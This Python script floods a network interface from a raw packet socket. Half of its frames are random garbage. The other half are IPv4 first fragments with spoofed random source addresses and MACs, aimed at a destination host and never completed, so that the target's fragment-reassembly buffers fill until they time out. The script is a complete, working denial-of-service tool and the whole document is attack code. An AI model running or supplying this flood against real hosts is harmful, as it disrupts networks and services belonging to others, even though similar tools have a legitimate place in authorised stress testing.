#!/usr/bin/python3
"""Floods an interface with garbage from a raw AF_PACKET socket, paced to a rate: every
other frame is random bytes of 0..maxlen (the kernel refuses those under an Ethernet
header, counted as refused), the others are IPv4 first fragments to `dst` that never get
their rest (so the receiver's reassembly holds each until its timeout). Fast enough for
tens of thousands of frames a second where scapy manages a few thousand.

usage: frame_flood.py <iface> <dst IPv4> <frames/s> <seconds> <maxlen>
Prints "sent N refused M"."""
import random
import socket
import struct
import sys
import time


def checksum(hdr):
    s = sum(struct.unpack(f"!{len(hdr) // 2}H", hdr))
    s = (s & 0xffff) + (s >> 16)
    return ~((s & 0xffff) + (s >> 16)) & 0xffff


def first_fragment(rnd, dst, ident, size):
    """Ethernet broadcast, IPv4 with More Fragments set, offset 0, a new ID each time."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, size - 14, ident, 0x2000, 64, 17, 0,
                     rnd.randbytes(4), dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return b"\xff" * 6 + rnd.randbytes(6) + b"\x08\x00" + ip + rnd.randbytes(size - 34)


def main(iface, dst, rate, seconds, maxlen):
    rnd = random.Random(7)  # the same frames every run
    dst = socket.inet_aton(dst)
    garbage = [rnd.randbytes(rnd.randint(0, maxlen)) for _ in range(1024)]
    frags = [first_fragment(rnd, dst, i, rnd.randint(100, min(maxlen, 1400))) for i in range(65536)]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    sent = refused = i = 0
    start = time.monotonic()
    while (now := time.monotonic()) - start < seconds:
        due = int((now - start) * rate)
        while i < due:
            frame = garbage[i % len(garbage)] if i & 1 else frags[(i >> 1) % len(frags)]
            try:
                s.send(frame)
                sent += 1
            except OSError:
                refused += 1
            i += 1
        time.sleep(0.002)
    print(f"sent {sent} refused {refused}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5]))
